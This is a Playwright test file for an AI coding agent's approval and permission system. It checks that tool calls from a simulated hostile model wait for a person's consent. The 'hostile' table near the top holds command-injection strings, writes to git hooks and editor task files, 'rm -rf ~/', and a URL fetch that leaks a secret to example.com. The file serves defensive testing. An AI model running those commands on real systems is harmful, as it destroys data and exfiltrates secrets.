import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { calling, callingAll, saying } from '../helpers/chat-answers'
import { sampleOf } from '../helpers/how-deep'
import { modelServer } from '../helpers/model-server'
import { look, seriousFindings } from './axe'
import { expect, type Launch, test } from './launch'
import {
  allowFromNowOn,
  approval,
  card,
  connectModel,
  countFiles,
  isThere,
  openFolder,
  say,
  showTab,
  timeline,
  toolLine,
} from './person'

type Mode = 'Read only' | 'Ask' | 'Auto-edit' | 'Full'

async function choose(page: Page, mode: Mode): Promise<void> {
  await page.getByRole('button', { name: /^Approval mode:/ }).click()
  await page.getByRole('menuitemradio', { name: new RegExp(`^${mode}`) }).click()
  // Full asks once for a session.
  const agree = page.getByRole('button', { name: 'Turn on Full' })
  const chosen = page.getByRole('button', { name: `Approval mode: ${mode}` })
  await expect(agree.or(chosen)).toBeVisible()
  if (await agree.isVisible()) await agree.click()
  await expect(chosen).toBeVisible()
}

async function start({ launch, folder }: { launch: Launch; folder(name: string): Promise<string> }) {
  const server = await modelServer()
  const workspace = await folder('work')
  await writeFile(join(workspace, 'a'), 'x\n')
  const atrium = await launch()
  await connectModel(atrium.page, server.baseUrl)
  await openFolder(atrium, workspace)
  return { server, workspace, page: atrium.page, atrium }
}

const hostile: readonly [mode: Mode, tool: string, input: object, grave?: boolean][] = [
  ['Ask', 'shell', { command: 'echo $(touch canary)' }],
  ['Ask', 'shell', { command: 'ls\ntouch canary' }],
  ['Ask', 'shell', { command: 'find . -exec touch canary \\;' }],
  ['Ask', 'shell', { command: 'git -c core.pager="touch canary" log' }],
  ['Ask', 'shell', { command: 'ls \u202e; touch canary' }],
  ['Ask', 'shell', { command: 'cat link' }],
  ['Auto-edit', 'shell', { command: 'touch canary' }],
  ['Auto-edit', 'write_file', { path: '.vscode/tasks.json', content: 'canary' }, true],
  ['Auto-edit', 'write_file', { path: 'AGENTS.md', content: 'canary' }, true],
  ['Full', 'write_file', { path: '.git/hooks/pre-commit', content: 'canary' }, true],
  ['Full', 'shell', { command: 'bash -c "touch canary ../canary"' }],
  ['Full', 'shell', { command: 'rm -rf ~/' }, true],
  ['Full', 'read_web_url', { url: 'https://example.com/?leak=secret' }],
]

/** A card that moves at the moment of a click does not take it, so that a person clicks again. */
async function deny(page: Page): Promise<void> {
  await expect(async () => {
    if (await card(page).isVisible())
      await card(page).getByRole('button', { name: 'Deny', exact: true }).click({ timeout: 2_000 })
    await expect(card(page)).toHaveCount(0, { timeout: 2_000 })
  }).toPass()
}

test('nothing that a hostile model asks for happens before the person agrees', async ({ launch, folder }) => {
  test.setTimeout(180_000)
  const { server, workspace, page } = await start({ launch, folder })
  const outside = await folder('outside')
  await mkdir(join(outside, 'deep'))
  await writeFile(join(outside, 'deep/secret'), 'secret')
  await symlink(join(outside, 'deep/secret'), join(workspace, 'link'))
  const before = await countFiles(workspace)
  let done = 0
  for (const [mode, tool, input, grave] of sampleOf(hostile, 6)) {
    await choose(page, mode)
    const word = `Turn ${++done} is over.`
    server.add(calling(tool, input), saying(word))
    await say(page, 'go')
    await expect(card(page)).toBeVisible()
    if (grave) await expect(card(page)).toHaveAttribute('data-grave', 'true')
    expect(await countFiles(workspace)).toBe(before)
    expect(await isThere(workspace, 'canary')).toBe(false)
    await deny(page)
    await expect(timeline(page)).toContainText(word)
    await expect(page.getByRole('button', { name: 'Stop', exact: true })).toHaveCount(0)
  }
  await choose(page, 'Read only')
  server.add(calling('write_file', { path: 'canary', content: '' }), saying('Read only.'))
  await say(page, 'go')
  await expect(timeline(page)).toContainText('Read only.')
  await expect(card(page)).toHaveCount(0)
  expect(await countFiles(workspace)).toBe(before)
  await server.close()
})

test('a read-only command runs without asking; a rule is made on a card, seen, tried out and taken back', async ({
  launch,
  folder,
}) => {
  const { server, workspace, page } = await start({ launch, folder })
  server.add(calling('shell', { command: 'cat a' }), calling('shell', { command: 'touch one' }), saying('First.'))
  await say(page, 'go')
  await expect(card(page)).toContainText('touch one')
  await expect(toolLine(page, 'cat a')).toBeVisible()
  expect(await seriousFindings(page)).toEqual([])
  await allowFromNowOn(card(page), /<path>/)
  await expect(timeline(page)).toContainText('First.')
  expect(await isThere(workspace, 'one')).toBe(true)

  server.add(calling('shell', { command: 'touch two' }), saying('Second.'))
  await say(page, 'go')
  await expect(timeline(page)).toContainText('Second.')
  expect(await isThere(workspace, 'two')).toBe(true)

  await page.getByRole('button', { name: 'Settings' }).click()
  const settings = page.getByRole('dialog', { name: 'Settings' })
  await settings.getByRole('tab', { name: 'Permissions' }).click()
  await expect(settings.getByRole('list', { name: 'Rules' })).toContainText('touch <path>')
  await expect(settings.getByRole('list', { name: 'Rules' })).toContainText('used once')
  await settings.getByRole('textbox', { name: 'Command' }).fill('touch three')
  await page.keyboard.press('Enter')
  await expect(settings.getByRole('status')).toContainText('Runs without asking')
  expect(await seriousFindings(page)).toEqual([])
  await settings.getByRole('button', { name: /^Remove:/ }).click()
  await settings.getByRole('button', { name: /^Remove/ }).click()
  await expect(settings).toContainText('No rules yet')
  await settings.getByRole('textbox', { name: 'Command' }).press('Enter')
  await expect(settings.getByRole('status')).toContainText('Asks first')
  await page.keyboard.press('Escape')

  server.add(calling('shell', { command: 'touch four' }), saying('Third.'))
  await say(page, 'go')
  await expect(card(page)).toContainText('touch four')
  expect(await isThere(workspace, 'four')).toBe(false)
  await server.close()
})

test('the person writes another command and another content, and the model is told', async ({ launch, folder }) => {
  const { server, workspace, page } = await start({ launch, folder })
  server.add(calling('shell', { command: 'touch theirs' }), saying('Ran.'))
  await say(page, 'go')
  await card(page).getByRole('button', { name: 'Edit…' }).click()
  await card(page)
    .getByRole('textbox', { name: /command/ })
    .fill('touch mine')
  await page.keyboard.press('Control+Enter')
  await expect(card(page)).toContainText('You edited this. The model will be told.')
  await card(page)
    .getByRole('button', { name: /^Run command/ })
    .click()
  await expect(timeline(page)).toContainText('Ran.')
  expect([await isThere(workspace, 'mine'), await isThere(workspace, 'theirs')]).toEqual([true, false])

  server.add(calling('write_file', { path: 'b.md', content: 'theirs\n' }), saying('Wrote.'))
  await say(page, 'go')
  await card(page).getByRole('button', { name: 'Edit…' }).click()
  const content = card(page).getByRole('textbox', { name: /content/ })
  await expect(content).toHaveValue('theirs\n')
  await content.fill('mine\n')
  await card(page).getByRole('button', { name: 'Preview' }).click()
  await expect(card(page)).toContainText('You edited this. The model will be told.')
  await card(page)
    .getByRole('button', { name: /^Create b.md/ })
    .click()
  await expect(timeline(page)).toContainText('Wrote.')
  expect(await readFile(join(workspace, 'b.md'), 'utf8')).toBe('mine\n')
  expect(JSON.stringify(server.requests.at(-1)?.body)).toContain('The person edited the content of b.md')
  await server.close()
})

test('several cards are walked by keys, and answered together', async ({ launch, folder }) => {
  const { server, workspace, page } = await start({ launch, folder })
  const commands = ['touch one', 'touch two', 'touch three']
  server.add(callingAll(commands.map(command => ({ name: 'shell', input: { command } }))), saying('All done.'))
  await say(page, 'go')
  await expect(card(page)).toHaveCount(3)
  await page.keyboard.press('Alt+ArrowDown')
  await expect(card(page).nth(0)).toBeFocused()
  await page.keyboard.press('Alt+ArrowDown')
  await expect(card(page).nth(1)).toBeFocused()
  await page.keyboard.press('Alt+ArrowUp')
  await expect(card(page).nth(0)).toBeFocused()
  // All are answered together once each was seen.
  for (const at of [1, 2, 0]) {
    await page.keyboard.press('Alt+ArrowDown')
    await expect(card(page).nth(at)).toBeFocused()
    await expect(approval(card(page).nth(at))).toBeEnabled()
  }
  await card(page).nth(0).getByRole('button', { name: 'Approve all 3…' }).click()
  await expect(card(page).nth(0).getByRole('list').filter({ hasText: 'touch three' })).toBeVisible()
  expect(await isThere(workspace, 'one')).toBe(false)
  await card(page).nth(0).getByRole('button', { name: 'Approve all 3', exact: true }).click()
  await expect(timeline(page)).toContainText('All done.')
  for (const name of ['one', 'two', 'three']) expect(await isThere(workspace, name)).toBe(true)
  await server.close()
})

test('three edits of one reply are one card: approved by one press, and undone one by one', async ({
  launch,
  folder,
}) => {
  const { server, workspace, page } = await start({ launch, folder })
  const edits = ['one.txt', 'two.txt', 'three.txt'].map(path => ({
    name: 'write_file',
    input: { path, content: `${path}\n` },
  }))
  server.add(callingAll(edits), saying('All written.'))
  await say(page, 'write three')
  await expect(card(page)).toHaveCount(1)
  await expect(card(page).getByRole('checkbox')).toHaveCount(3)
  await look(page, 'review')
  await expect(card(page).getByRole('button', { name: 'Create 3 files' })).toBeEnabled()
  await card(page).getByRole('button', { name: 'Create 3 files' }).click()
  await expect(timeline(page)).toContainText('All written.')
  for (const { input } of edits) expect(await readFile(join(workspace, input.path), 'utf8')).toBe(input.content)
  await expect(card(page)).toHaveCount(0)

  await showTab(page, 'Changes')
  const states = page.getByTestId('file-state')
  await expect(page.getByTestId('change-entry')).toHaveCount(3)
  await expect(states).toHaveCount(0)
  await writeFile(join(workspace, 'one.txt'), 'by another program\n')
  await expect(states).toHaveText(['changed since'])
  await rm(join(workspace, 'two.txt'))
  await expect(states).toHaveText(['deleted since', 'changed since'])
  await writeFile(join(workspace, 'one.txt'), 'one.txt\n')
  await expect(states).toHaveText(['deleted since'])
  await look(page, 'changes-since')
  await server.close()
})

test('an edit of a review is left out by keys, another answered alone, and one file is changed twice', async ({
  launch,
  folder,
}) => {
  const { server, workspace, page } = await start({ launch, folder })
  const paths = ['one.txt', 'two.txt', 'three.txt', 'four.txt']
  const edits = paths.map(path => ({ name: 'write_file', input: { path, content: `${path}\n` } }))
  server.add(callingAll(edits), saying('Some written.'))
  await say(page, 'write four')
  await expect(card(page).getByRole('checkbox')).toHaveCount(4)
  await card(page).getByRole('button', { name: 'Answer separately' }).last().click()
  await expect(card(page)).toHaveCount(2)
  await card(page).first().getByRole('checkbox').nth(1).focus()
  await page.keyboard.press('Space')
  await expect(card(page).first()).toContainText('1 edit will be denied')
  await expect(card(page).first().getByRole('button', { name: 'Approve 2 of 3' })).toBeEnabled()
  await page.keyboard.press('Control+Enter')
  await expect(card(page)).toHaveCount(1)
  await expect(card(page)).toContainText('four.txt')
  await card(page).getByRole('button', { name: 'Deny', exact: true }).click()
  await expect(timeline(page)).toContainText('Some written.')
  expect(await Promise.all(paths.map(path => isThere(workspace, path)))).toEqual([true, false, true, false])

  const twice = ['x', 'own'].map(old_string => ({
    name: 'replace_in_file',
    input: { path: 'a', old_string, new_string: old_string.toUpperCase() },
  }))
  await writeFile(join(workspace, 'a'), 'x\nof its own\n')
  server.add(callingAll(twice), saying('Twice.'))
  await say(page, 'twice')
  await expect(card(page)).not.toHaveCount(0)
  await expect(async () => {
    if (await timeline(page).getByText('Twice.').isVisible()) return
    await card(page).first().locator('[data-answer="approve"]').click({ timeout: 2_000 })
    await expect(timeline(page)).toContainText('Twice.', { timeout: 2_000 })
  }).toPass({ timeout: 30_000 })
  expect(await readFile(join(workspace, 'a'), 'utf8')).toBe('X\nof its OWN\n')
  await server.close()
})

test('changes side by side take more of a wide window than the conversation', async ({ launch, folder }) => {
  const { server, workspace, page, atrium } = await start({ launch, folder })
  await atrium.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.setContentSize(1920, 1080))
  await writeFile(join(workspace, 'b'), 'x\n')
  const edits = ['a', 'b'].map(path => ({ name: 'replace_in_file', input: { path, old_string: 'x', new_string: 'y' } }))
  server.add(callingAll(edits), saying('Done.'))
  await say(page, 'both')
  await expect(card(page).getByRole('checkbox')).toHaveCount(2)
  const width = async () => (await card(page).boundingBox())?.width ?? 0
  const before = await width()
  await card(page).getByRole('button', { name: 'Side-by-side diff' }).click()
  await expect.poll(width).toBeGreaterThan(before * 1.4)
  await look(page, 'wide-review')
  await card(page).getByRole('button', { name: 'Side-by-side diff' }).click()
  await expect.poll(width).toBe(before)
  await card(page).locator('[data-answer="approve"]').click()
  await expect(timeline(page)).toContainText('Done.')
  await server.close()
})
